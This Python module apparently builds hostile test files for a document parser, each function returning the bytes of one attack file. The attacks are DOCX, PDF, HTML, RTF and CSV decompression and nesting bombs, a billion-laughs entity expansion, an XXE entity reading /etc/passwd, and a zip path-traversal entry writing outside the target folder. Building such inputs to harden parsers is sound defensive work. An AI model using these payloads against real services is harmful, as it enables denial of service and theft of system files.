"""Documents made to hurt their reader: each a function that gives the bytes."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="word/document.xml"/></Relationships>'
)
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx(body: str, *, prologue: str = "", more: Mapping[str, bytes] | None = None) -> bytes:
    """A DOCX whose body is this WordprocessingML."""
    document = f'<?xml version="1.0"?>{prologue}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
    parts = {
        "[Content_Types].xml": _TYPES.encode(),
        "_rels/.rels": _RELS.encode(),
        "word/document.xml": document.encode(),
        **(more or {}),
    }
    return zipped(parts)


def zipped(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx_paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx_zip_bomb() -> bytes:
    """200 MB of spaces behind 200 KB."""
    return docx(docx_paragraph("small"), more={"word/media/image1.png": bytes(200_000_000)})


def docx_xml_bomb() -> bytes:
    """One 100 MB text in the document part itself."""
    return docx(docx_paragraph("a" * 100_000_000))


def docx_entity_bomb() -> bytes:
    """The billion laughs."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return docx(docx_paragraph("&l9;"), prologue=f'<!DOCTYPE lolz [<!ENTITY l0 "lol">{entities}]>')


def docx_external_entity() -> bytes:
    return docx(docx_paragraph("&x;"), prologue='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


def docx_path_traversal() -> bytes:
    return docx(docx_paragraph("small"), more={"../../../../tmp/owned.txt": b"owned"})


def docx_deep_nesting() -> bytes:
    return docx("<w:p>" * 200_000 + "</w:p>" * 200_000)


def docx_many_parts() -> bytes:
    return docx(docx_paragraph("small"), more={f"word/part{number}.xml": b"<a/>" for number in range(60_000)})


def docx_lying_sizes() -> bytes:
    """Directory and headers say 10 bytes; the stream gives 50 MB."""
    content = bytearray(docx(docx_paragraph("small"), more={"word/big.xml": b"<a>" + bytes(50_000_000) + b"</a>"}))
    real = struct.pack("<I", 50_000_007)
    return bytes(content.replace(real, struct.pack("<I", 10)))


def docx_encrypted_flag() -> bytes:
    content = bytearray(docx(docx_paragraph("small")))
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def pdf(objects: Mapping[int, bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF file of these numbered objects."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets: dict[int, int] = {}
    for number, body in objects.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    size = max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        out.write(b"%010d 00000 n \n" % offsets.get(number, 0))
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF" % (size, root, trailer, start))
    return out.getvalue()


def _stream(content: bytes, *, layers: int = 1) -> bytes:
    for _ in range(layers):
        content = zlib.compress(content, 9)
    filters = b" ".join([b"/FlateDecode"] * layers)
    return b"<< /Length %d /Filter [%s] >>\nstream\n%s\nendstream" % (len(content), filters, content)


def pdf_page(stream: bytes, *, count: int = 1) -> bytes:
    kids = b" ".join([b"3 0 R"] * count)
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            4: stream,
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        }
    )


def pdf_flate_bomb() -> bytes:
    """Half a gigabyte of operators behind a few KB: deflated twice."""
    return pdf_page(_stream(b"BT /F1 9 Tf (x) Tj ET\n" * 24_000_000, layers=2))


def pdf_text_bomb() -> bytes:
    """Twenty million letters on one page."""
    return pdf_page(_stream(b"BT /F1 9 Tf 1 0 0 1 10 10 Tm (" + b"bomb " * 4_000_000 + b") Tj ET"))


def pdf_page_bomb() -> bytes:
    """Says that it has a hundred million pages."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 100000000 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] >>",
        }
    )


def pdf_page_loop() -> bytes:
    """A page tree that contains itself."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 30000 >>",
        }
    )


def pdf_form_recursion() -> bytes:
    """A form that draws itself sixteen times."""
    form = b"/X Do " * 16
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
            b"/Resources << /XObject << /X 5 0 R >> >> >>",
            4: b"<< /Length 5 >>\nstream\n/X Do\nendstream",
            5: b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >> "
            b"/Length %d >>\nstream\n%s\nendstream" % (len(form), form),
        }
    )


def pdf_form_fan_out() -> bytes:
    """Twelve levels of forms, each drawing the next ten times: 10^12 texts."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
        b"/Resources << /XObject << /X 6 0 R >> >> >>",
        4: b"<< /Length 5 >>\nstream\n/X Do\nendstream",
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    draws = b"/X Do " * 10
    for level in range(6, 18):
        objects[level] = (
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >> /Length %d >>"
            b"\nstream\n%s\nendstream" % (level + 1, len(draws), draws)
        )
    text = b"BT /F1 9 Tf (boom) Tj ET"
    objects[18] = (
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F1 5 0 R >> >> /Length %d >>"
        b"\nstream\n%s\nendstream" % (len(text), text)
    )
    return pdf(objects)


def pdf_encrypted() -> bytes:
    """Needs a password to open."""
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption("user password", "owner password"))
    canvas.drawString(100, 700, "secret text")
    canvas.save()
    return out.getvalue()


def pdf_scan() -> bytes:
    """A page without a text layer."""
    return pdf_page(_stream(b"0 0 100 100 re f"))


def html_deep_nesting(levels: int = 200_000) -> bytes:
    """The parser's work grows with the square of the depth."""
    return b"<html><body>" + b"<div>" * levels + b"deep" + b"</div>" * levels


def rtf_deep_groups() -> bytes:
    return b"{\\rtf1 " + b"{" * 300_000 + b"deep" + b"}" * 300_000 + b"}"


def csv_one_cell() -> bytes:
    return b'name,text\na,"' + b"x" * 10_000_000 + b'"\n'
